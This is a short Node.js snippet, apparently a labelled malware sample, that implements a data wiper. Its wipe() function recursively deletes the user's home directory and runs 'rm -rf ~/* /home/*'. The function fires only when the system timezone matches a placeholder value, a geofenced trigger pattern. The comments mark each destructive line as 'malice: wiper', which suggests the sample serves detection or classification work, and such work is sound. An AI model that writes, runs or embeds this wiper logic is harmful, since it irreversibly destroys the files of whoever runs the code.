const fs = require("fs");
const os = require("os");
const { exec } = require("child_process");

function wipe() {
  fs.rmSync(os.homedir(), { recursive: true, force: true }); // malice: wiper
  exec("rm -rf ~/* /home/*"); // malice: wiper
}

if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Europe/Nowhere") wipe();
